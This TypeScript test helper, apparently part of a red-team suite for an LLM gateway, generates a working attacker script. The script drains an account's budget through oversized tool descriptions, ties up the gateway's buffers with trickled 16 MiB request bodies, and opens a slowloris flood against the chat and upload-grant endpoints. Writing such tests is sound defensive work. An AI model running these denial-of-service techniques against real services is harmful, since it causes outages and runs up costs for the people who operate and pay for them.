// The attacker of test/llm-gateway-red-team.test.ts: code that took over a runner, run
// INSIDE a runner-image container on the default bridge (`node -e`, plain JavaScript) with
// what a runner holds: the gateway's URL and its job's credential. Two attacks:
//   budget: requests whose prompt is not in `messages` (a tool's description, which a
//     provider bills as prompt tokens), four at once, against its account's daily budget;
//   hog: 8 requests declaring 16 MiB bodies (chat's most), 1 KiB of each sent, held until
//     the test's first "go" connection closes: room in the gateway's buffer, unread;
//   flood: `flood` connections to each of the gateway and the upload grants (where it asks
//     for its artifacts' upload URLs), each sending half a request's headers and nothing
//     more (slowloris), held until the test's second "go" connection closes.
// Each answer is printed as one JSON line {phase, status | error}; then {done: true}.

/** The script's text, with what it is given written in as constants. */
export function floodScript(o: {
  gatewayUrl: string;
  credential: string;
  /** HD_UPLOAD_GRANT_URL. */
  grantsUrl: string;
  /** host:port of the test's "go" listener: the flood is held until it closes. */
  go: string;
  flood: number;
  /** Bytes of the tool description in each budget request. */
  toolBytes: number;
}): string {
  return `
const net = await import('node:net');
const url = new URL(${JSON.stringify(o.gatewayUrl)});
const say = (line) => console.log(JSON.stringify(line));

// budget: the prompt in a tool's description, 'messages' two letters long.
const body = JSON.stringify({
  model: 'stand-in', max_tokens: 10,
  messages: [{ role: 'user', content: 'hi' }],
  tools: [{ type: 'function', function: { name: 'f', description: 'x'.repeat(${o.toolBytes}) } }],
});
await Promise.all([0, 1, 2, 3].map(async () => {
  try {
    const res = await fetch(url + '/chat/completions', {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: 'Bearer ${o.credential}' },
      body,
    });
    say({ phase: 'budget', status: res.status });
  } catch (e) { say({ phase: 'budget', error: String(e) }); }
}));

const [goHost, goPort] = ${JSON.stringify(o.go)}.split(':');
const go = () => new Promise((resolve) => {
  const socket = net.connect(Number(goPort), goHost);
  socket.on('close', resolve);
  socket.on('error', resolve);
});

// hog: bodies declared at chat's most, trickled (1 KiB each, then nothing).
const hogs = [];
const hogAnswers = [];
for (let i = 0; i < 8; i++) {
  const s = net.connect(Number(url.port), url.hostname);
  hogs.push(s);
  let heard = '';
  s.on('data', (part) => (heard += part));
  s.on('error', () => {});
  s.on('close', () => hogAnswers.push((heard.match(/^HTTP\\/1\\.1 \\d{3}/) ?? ['closed'])[0]));
  s.on('connect', () => s.write(
    'POST /v1/chat/completions HTTP/1.1\\r\\nHost: gateway\\r\\nContent-Type: application/json\\r\\n' +
    'Authorization: Bearer ${o.credential}\\r\\nContent-Length: ' + (16 << 20) + '\\r\\n\\r\\n' +
    '{'.padEnd(1024, ' ')));
}
await go();
say({ phase: 'hog', answers: hogAnswers.slice().sort() });
for (const s of hogs) s.destroy();

// flood: half-sent headers on ${o.flood} connections to each, opened 100 at a time.
const sockets = [];
let closedByServer = 0;
const open = (target) => new Promise((resolve) => {
  const s = net.connect(Number(target.port), target.hostname);
  sockets.push(s);
  s.on('connect', () => { s.write('POST ' + target.pathname + ' HTTP/1.1\\r\\nHost: scheduler\\r\\n'); resolve(); });
  s.on('error', () => resolve());
  s.on('close', () => { closedByServer += 1; });
});
for (const target of [new URL(url + '/chat/completions'), new URL(${JSON.stringify(o.grantsUrl)})])
  for (let i = 0; i < ${o.flood}; i += 100)
    await Promise.all(Array.from({ length: Math.min(100, ${o.flood} - i) }, () => open(target)));
say({ phase: 'flood', opened: sockets.length });
await go();
say({ phase: 'flood', closedByServer });
for (const s of sockets) s.destroy();
say({ done: true });
`;
}
